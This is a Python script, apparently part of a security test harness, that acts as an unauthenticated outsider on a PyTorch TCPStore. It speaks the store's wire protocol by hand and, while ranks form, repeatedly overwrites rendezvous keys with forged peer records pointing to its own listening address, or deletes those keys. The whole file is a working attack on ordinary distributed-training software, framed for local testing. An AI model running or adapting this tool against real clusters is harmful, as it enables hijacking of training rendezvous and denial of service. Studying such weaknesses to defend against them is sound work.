"""An outsider on torch's TCPStore (no authentication): it speaks the store's wire protocol by
hand (standard library only), and while the ranks form it keeps overwriting the given keys
with a plausible record of its own (a made-up MAC, an address it listens on) and deleting
them, every `pause` seconds. The keys follow from public facts (the source's key layout).

    store_tamper.py PORT SECONDS PAUSE OUTSIDER_PORT MODE KEY [KEY ...]

MODE: overwrite, delete, or both (overwrite, then delete half a pause later).

Prints READY once connected, then DONE <sets> <deletes> when SECONDS have passed."""
import socket
import struct
import sys
import time

VALIDATE, SET, DELETE_KEY = 0, 1, 8      # TCPStore's query types
VALIDATION_MAGIC = 0x3C85F7CE


def string(data: bytes) -> bytes:
    return struct.pack("<Q", len(data)) + data


def recv_exact(sock: socket.socket, n: int) -> bytes:
    data = b""
    while len(data) < n:
        chunk = sock.recv(n - len(data))
        if not chunk:
            raise EOFError("the store closed the connection")
        data += chunk
    return data


def main() -> None:
    port, seconds, pause, outsider_port = int(sys.argv[1]), float(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4])
    mode = sys.argv[5]
    keys = [k.encode() for k in sys.argv[6:]]
    sock = socket.create_connection(("127.0.0.1", port), timeout=10)
    sock.sendall(struct.pack("<BI", VALIDATE, VALIDATION_MAGIC))
    print("READY", flush=True)
    sets = deletes = 0
    until = time.monotonic() + seconds
    try:
        while time.monotonic() < until:
            for key in keys if mode != "delete" else []:
                rank = int(key.rsplit(b"/", 1)[1])
                fake = b'jr1 ' + b"ab" * 32 + b' {"address":"127.0.0.1:%d","rank":%d,"size":2}' % (outsider_port, rank)
                sock.sendall(bytes([SET]) + string(key) + string(fake))
                sets += 1
            time.sleep(pause / 2)
            for key in keys if mode != "overwrite" else []:
                sock.sendall(bytes([DELETE_KEY]) + string(key))
                recv_exact(sock, 8)  # how many keys it deleted
                deletes += 1
            time.sleep(pause / 2)
    except (OSError, EOFError):
        pass  # the store went away with its ranks
    print("DONE", sets, deletes, flush=True)


if __name__ == "__main__":
    main()
